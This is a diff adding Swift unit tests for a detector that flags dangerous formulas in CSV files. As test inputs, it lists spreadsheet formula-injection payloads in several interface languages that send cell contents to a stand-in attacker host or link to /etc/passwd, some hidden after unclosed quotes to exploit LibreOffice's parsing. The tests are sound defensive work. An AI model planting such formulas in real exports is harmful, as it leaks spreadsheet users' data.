@@ -27,6 +27,44 @@ struct TextRound6Tests {
         #expect(!TextActiveContent.formulaFindings(Array(cells.utf8), csv: true).isEmpty, "\(cells)")
     }
 
+    /// A spreadsheet reads a CSV formula in its interface's language: German WEBDIENST is WEBSERVICE, French
+    /// LIEN_HYPERTEXTE is HYPERLINK. A CSV formula may call only functions known to be harmless.
+    @Test(arguments: [
+        "=WEBDIENST(\"https://evil.example/?\"&B1),x\n", "=SERVICEWEB(\"https://evil.example\"),x\n",
+        "=LIEN_HYPERTEXTE(\"file:///etc/passwd\";\"x\");y\n", "=SERVIZIO.WEB(\"https://evil.example\")\n",
+        "=A1 WEBDIENST(\"https://evil.example\"),x\n", "=SUM(A1)+BILD(\"https://evil.example/i.png\"),x\n",
+        "x,-1+WEBDIENST(\"https://evil.example\")\n", "x,@WEBDIENST(\"https://evil.example\")\n",
+    ])
+    func aCSVFormulaCallingAnUnlistedFunctionIsFound(_ csv: String) {
+        let findings = TextActiveContent.findings(in: Array(csv.utf8), csv: true)
+        #expect(findings.contains { $0.contains("not a function known to be harmless") }, "\(csv) \(findings)")
+    }
+
+    /// Formulas of listed functions, and prose that merely looks like a call, stay clean.
+    @Test func harmlessFormulasAndProseStayClean() {
+        for csv in [
+            "name,total\nAda,=SUM(B2:B9)\nBob,=ROUND(AVERAGE(B2:B9),2)\nCy,\"=IF(B2>0,\"\"yes\"\",\"\"no\"\")\"\n",
+            "handle,note\n@bob (ops),- removed item(s)\n+1 (555) 123-4567,-3 (est.)\n",
+            "link\n=HYPERLINK(\"https://example.com\",\"site\")\n",
+        ] {
+            #expect(TextActiveContent.findings(in: Array(csv.utf8), csv: true).isEmpty, "\(csv)")
+        }
+        // Prose in text that is not CSV: an arrow, a call after a word.
+        #expect(TextActiveContent.findings(in: Array("fix typo e.g., => e.g. (Daijiro Yamada)\n".utf8)).isEmpty)
+    }
+
+    /// LibreOffice ends a quoted cell that no quote closes at its line (and then reads the line's other delimiters
+    /// as cell ends): the cell after it is a cell.
+    @Test(arguments: [
+        "x,\"a\n=WEBSERVICE(\"https://evil.example/?\"&A1),y\n",
+        "\"a',\"\"\\,=WEBSERVICE(\"https://evil.example/?\"&A1)\n",
+        "\"aa\r=WEBSERVICE(\"https://evil.example/?\"&A1)\n",
+        "name,note\n\"unclosed;=WEBSERVICE(\"https://evil.example\")\n",
+    ])
+    func aFormulaAfterAnUnclosedQuoteIsFound(_ csv: String) {
+        #expect(!TextActiveContent.findings(in: Array(csv.utf8), csv: true).isEmpty, "\(csv.debugDescription)")
+    }
+
     /// Ordinary exports that start with a byte-order mark stay clean.
     @Test func ordinaryFilesWithAByteOrderMarkStayClean() {
         for text in [
